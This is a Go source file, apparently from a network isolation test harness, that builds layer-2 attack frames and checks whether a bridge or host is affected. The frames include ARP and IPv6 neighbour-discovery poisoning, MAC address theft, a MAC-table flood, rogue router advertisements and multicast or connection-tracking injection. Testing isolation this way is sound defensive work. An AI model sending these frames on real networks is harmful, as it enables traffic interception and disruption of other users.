package leak

import (
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
)

// poisonVectors change what others know of addresses. Each has an address of
// its own, which those others know under another MAC (see run.plant), so that
// the poison breaks nothing that other vectors need.
func poisonVectors() []Vector {
	targets := []struct {
		who  Who
		pick pick
	}{{Host, host}, {Gateway, gateway}, {Neighbour, neighbour}}
	var vs []Vector
	for _, t := range targets {
		add := func(kind, about string, found func(*Scene, *inspector, Who) string, build func(s *Scene, victim Party) []byte) {
			vs = append(vs, Vector{
				ID: fmt.Sprintf("P5/poison-%s-%s", t.who, kind), About: about, Aim: State, Late: true,
				Attack: Change{
					Plant: t.who,
					Build: func(s *Scene) [][]byte { return [][]byte{build(s, t.pick(s))} },
					Found: func(s *Scene, in *inspector) string { return found(s, in, t.who) },
				},
			})
		}
		known4 := func(s *Scene, in *inspector, who Who) string { return in.neighbour(who, s.phantom(), s.evil()) }
		known6 := func(s *Scene, in *inspector, who Who) string { return in.neighbour(who, s.phantom6(), s.evil()) }
		fresh4 := func(s *Scene, in *inspector, who Who) string { return in.neighbour(who, s.fresh(), s.evil()) }
		add("gratuitous", "a gratuitous ARP request", known4, func(s *Scene, _ Party) []byte {
			return arp{op: arpRequest, from: s.evil(), fromIP: s.phantom(), targetIP: s.phantom()}.frame(broadcast, s.evil(), s.Token)
		})
		add("gratuitous-reply", "a gratuitous ARP answer", known4, func(s *Scene, _ Party) []byte {
			return arp{op: arpReply, from: s.evil(), fromIP: s.phantom(), target: broadcast, targetIP: s.phantom()}.frame(broadcast, s.evil(), s.Token)
		})
		add("reply", "an ARP answer that nobody asked for", known4, func(s *Scene, v Party) []byte {
			return arp{op: arpReply, from: s.evil(), fromIP: s.phantom(), target: v.MAC, targetIP: v.IP}.frame(v.MAC, s.Me.MAC, s.Token)
		})
		add("request", "an ARP request in the name of another", known4, func(s *Scene, v Party) []byte {
			return arp{op: arpRequest, from: s.evil(), fromIP: s.phantom(), targetIP: v.IP}.frame(broadcast, s.Me.MAC, s.Token)
		})
		add("create", "an ARP request in the name of nobody", fresh4, func(s *Scene, v Party) []byte {
			return arp{op: arpRequest, from: s.evil(), fromIP: s.fresh(), targetIP: v.IP}.frame(v.MAC, s.Me.MAC, s.Token)
		})
		add("advert", "an unasked neighbour advertisement", known6, func(s *Scene, v Party) []byte {
			p := packet{from: s.Me.MAC, to: v.MAC, src: s.Me.IP6, dst: v.IP6}
			return p.nd(ndAdvert, naOverride, s.phantom6().AsSlice(), linkOption(2, s.evil())).frame()
		})
		add("solicit", "a neighbour solicitation in the name of another", known6, func(s *Scene, v Party) []byte {
			p := packet{from: s.Me.MAC, to: v.MAC, src: s.phantom6(), dst: v.IP6}
			return p.nd(ndSolicit, 0, v.IP6.AsSlice(), linkOption(1, s.evil())).frame()
		})
	}
	return vs
}

// learnVectors change what the bridge and others learn from frames.
func learnVectors() []Vector {
	change := func(id, about string, found func(*Scene, *inspector) string, build func(*Scene) [][]byte) Vector {
		return Vector{ID: id, About: about, Aim: State, Late: true, Attack: Change{Build: build, Found: found}}
	}
	learned := func(mac func(*Scene) net.HardwareAddr) func(*Scene, *inspector) string {
		return func(s *Scene, in *inspector) string { return in.learned(mac(s)) }
	}
	from := func(mac func(*Scene) net.HardwareAddr, etherType uint16) func(*Scene) [][]byte {
		return func(s *Scene) [][]byte {
			return [][]byte{ethernet(broadcast, mac(s), etherType, padded(nil, s.Token))}
		}
	}
	steal := func(p pick) func(*Scene) net.HardwareAddr { return func(s *Scene) net.HardwareAddr { return p(s).MAC } }
	evil := (*Scene).evil
	joined := func(g string) func(*Scene, *inspector) string {
		return func(_ *Scene, in *inspector) string { return in.joined(g) }
	}
	return []Vector{
		change("P5/learn-new-mac", "a MAC that nobody has", learned(evil), from(evil, 0x88b5)),
		change("P5/learn-by-ip", "a MAC that nobody has, in a permitted segment", learned(evil), func(s *Scene) [][]byte {
			p := s.to(s.Gateway)
			p.from = s.evil()
			return [][]byte{p.tcp(40005, s.Port, syn, s.Token).frame()}
		}),
		change("P5/learn-by-vlan", "a MAC that nobody has, tagged", learned(evil), func(s *Scene) [][]byte {
			f := ethernet(broadcast, s.evil(), 0x88b5, padded(nil, s.Token))
			return [][]byte{tagged(f, tag(typeVLAN, 0))}
		}),
		change("P5/steal-mac-neighbour", "a neighbour's MAC moves to the attacker", learned(steal(neighbour)), from(steal(neighbour), 0x88b5)),
		change("P5/steal-mac-gateway", "the gateway's MAC moves to the attacker", learned(steal(gateway)), from(steal(gateway), 0x88b5)),
		change("P5/mac-flood", "five hundred MACs", func(s *Scene, in *inspector) string {
			return in.learned(floodMAC(s, 499))
		}, func(s *Scene) [][]byte {
			var out [][]byte
			for i := range 500 {
				out = append(out, ethernet(broadcast, floodMAC(s, i), 0x88b5, padded(nil, s.Token)))
			}
			return out
		}),
		change("P5/igmp-join", "membership of a group", joined("239.77.0.1"), func(s *Scene) [][]byte {
			g := group("239.77.0.1")
			return [][]byte{s.to(g).igmp(igmpReport, g.IP, s.Token).frame()}
		}),
		change("P5/mld-join", "membership of an IPv6 group", joined("ff15::77"), func(s *Scene) [][]byte {
			g := group("ff15::77")
			p := s.to6(g)
			p.src = linkLocal(s.Me.MAC)
			return [][]byte{p.mld(mldReport, g.IP6, "").frame()}
		}),
		change("P5/multicast-router", "the attacker's port as the way to a multicast router", func(_ *Scene, in *inspector) string {
			return in.routerPort()
		}, func(s *Scene) [][]byte {
			// More bytes would make it a query of version 3.
			return [][]byte{s.to(group("224.0.0.1")).igmp(igmpQuery, netip.IPv4Unspecified(), "").frame()}
		}),
		change("P5/conntrack", "a flow in the host's connection tracking", func(s *Scene, in *inspector) string {
			return in.tracked(s.phantom())
		}, func(s *Scene) [][]byte {
			p := s.to(s.Net)
			p.src = s.phantom()
			return [][]byte{p.udp(40000, 9, s.Token).frame()}
		}),
		change("P5/default-router", "a default route through the attacker", func(s *Scene, in *inspector) string {
			return in.routeVia(Neighbour, linkLocal(s.Me.MAC))
		}, func(s *Scene) [][]byte {
			p := s.to6(group("ff02::1"))
			p.src = linkLocal(s.Me.MAC)
			lifetime := []byte{0, 0, 0, 0, 0, 0, 0, 0}
			return [][]byte{p.nd(ndRouterAdvert, 0x40000000|1800, lifetime, linkOption(1, s.Me.MAC)).frame()}
		}),
	}
}

// fresh is an address of the vector's own that nobody knows.
func (s *Scene) fresh() netip.Addr {
	b := s.phantom().As4()
	b[2] -= 8
	return netip.AddrFrom4(b)
}

func floodMAC(s *Scene, i int) net.HardwareAddr {
	mac := net.HardwareAddr{0x02, 0xf1, s.Token[7], s.Token[6], 0, 0}
	binary.BigEndian.PutUint16(mac[4:], uint16(i))
	return mac
}
